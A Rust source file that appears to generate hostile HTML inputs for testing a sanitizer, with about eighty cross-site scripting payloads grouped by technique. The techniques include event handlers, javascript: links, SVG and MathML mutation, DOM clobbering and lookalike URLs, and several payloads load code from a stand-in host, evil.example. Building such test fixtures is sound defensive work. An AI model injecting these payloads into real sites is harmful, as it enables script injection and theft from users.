//! Hostile pages, by family.

/// What runs, if anything of a payload does.
const RUNS: [&str; 4] = ["alert(1)", "import('//evil.example')", "fetch`//evil.example`", "top[1]"];

/// Payloads, by family: `RUN` stands for what would run.
const FAMILIES: [&[&str]; 8] = [
    // Elements that run or load.
    &[
        "<script>RUN</script>",
        "<script src=//evil.example></script>",
        "<SCRIPT/x>RUN</SCRIPT>",
        "<scr<script>ipt>RUN</scr</script>ipt>",
        "<iframe srcdoc='<script>RUN</script>'></iframe>",
        "<object data=//evil.example></object>",
        "<embed src=//evil.example>",
        "<link rel=stylesheet href=//evil.example>",
        "<style>@import '//evil.example'</style>",
        "<base href=//evil.example/>",
        "<meta http-equiv=refresh content='0;//evil.example'>",
        "<applet code=RUN></applet>",
        "<frameset><frame src=//evil.example></frameset>",
    ],
    // Attributes that run.
    &[
        "<img src=x onerror=RUN>",
        "<p onclick=RUN>a</p>",
        "<a href=/x onmouseover=RUN>a</a>",
        "<body onload=RUN>a",
        "<input autofocus onfocus=RUN>",
        "<details open ontoggle=RUN><summary>a</summary>b</details>",
        "<div style='background:url(//evil.example)'>a</div>",
        "<p style=\"x:expression(RUN)\">a</p>",
        "<b/onclick=RUN>a</b>",
        "<p \u{1}onclick=RUN>a",
        "<video><source onerror=RUN></video>",
    ],
    // Links that run.
    &[
        "<a href=javascript:RUN>a</a>",
        "<a href='JaVaScRiPt:RUN'>a</a>",
        "<a href='java\tscript:RUN'>a</a>",
        "<a href='&#106;avascript:RUN'>a</a>",
        "<a href='\u{1}javascript:RUN'>a</a>",
        "<a href='javascript&colon;RUN'>a</a>",
        "<a href='data:text/html,<script>RUN</script>'>a</a>",
        "<a href=vbscript:RUN>a</a>",
        "<a href='view-source:javascript:RUN'>a</a>",
        "<form action=javascript:RUN><select name=a><option>b</select></form>",
        "<a href='blob:RUN'>a</a>",
        "<button formaction=javascript:RUN>a</button>",
    ],
    // Drawings and formulas, where other rules hold.
    &[
        "<svg onload=RUN>",
        "<svg><script>RUN</script></svg>",
        "<svg><a xlink:href=javascript:RUN><text>a</text></a></svg>",
        "<svg><style><img src=x onerror=RUN></style></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=RUN>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=RUN>\">",
        "<math href=javascript:RUN>a</math>",
        "<svg><foreignObject><body onload=RUN></foreignObject></svg>",
        "<svg><use href=//evil.example#a></svg>",
    ],
    // Markup that changes when it is read twice.
    &[
        "<noscript><p title=\"</noscript><img src=x onerror=RUN>\">",
        "<textarea></textarea><img src=x onerror=RUN>",
        "<title></title><script>RUN</script>",
        "&lt;script&gt;RUN&lt;/script&gt;",
        "<p>&amp;lt;script&amp;gt;RUN",
        "<xmp><script>RUN</script></xmp>",
        "<plaintext><script>RUN</script>",
        "<!--><script>RUN</script>-->",
        "<![CDATA[<script>RUN</script>]]>",
        "<template><script>RUN</script></template>",
        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>",
        "<select><script>RUN</script><style><img onerror=RUN></select>",
        "<table><script>RUN</script><tr><td onclick=RUN>a</table>",
    ],
    // Texts that leave their place.
    &[
        "<p>\"><script>RUN</script>",
        "<p>'><img src=x onerror=RUN>",
        "<p>--><script>RUN</script>",
        "<h2>\"><script>RUN</script></h2><p>a",
        "<a href='/x\"><script>RUN</script>'>a</a>",
        "<a href='/x?a=1&b=<script>RUN</script>'>a</a>",
        "<p>]]>RUN",
        "<p>{{RUN}} ${RUN} <%= RUN %>",
        "<table><caption>\"><script>RUN</script></caption><tr><th>a<th>b<tr><td>c<td>d</table>",
        "<select name='\"><script>RUN</script>' aria-label='\"><script>RUN</script>'><option value='\"><script>RUN'>a</select>",
        "<fieldset><legend>\"><script>RUN</script></legend><input id=a><label for=a>'><img onerror=RUN></label></fieldset>",
    ],
    // Names that are already taken on our pages.
    &[
        "<p id=aide>RUN</p>",
        "<a name=aide href=#aide>RUN</a>",
        "<form id=valeur><input name=valeur aria-label=RUN></form>",
        "<img name=getElementById>",
        "<a id=document href=//evil.example>RUN</a>",
        "<h2 id=__proto__>RUN</h2><p>a",
    ],
    // Texts that look like others.
    &[
        "<p>\u{202e}RUN\u{202c}",
        "<p>\u{2066}RUN\u{2069}",
        "<p>a\u{200b}b\u{feff}c RUN",
        "<p>\0RUN\0",
        "<p>&#0;&#x202e;RUN",
        "<a href=https://www.exemple.gouv.fr@evil.example/>RUN</a>",
        "<a href=//www.exemple.gouv.fr.evil.example/>RUN</a>",
        "<a href=https:evil.example>RUN</a>",
        "<a href='\\\\evil.example\\x'>RUN</a>",
        "<a href=https://127.0.0.1/>RUN</a>",
    ],
];

/// Every payload.
pub fn payloads() -> Vec<String> {
    let all = FAMILIES.iter().flat_map(|family| family.iter());
    all.flat_map(|payload| RUNS.iter().map(move |run| payload.replace("RUN", run))).collect()
}
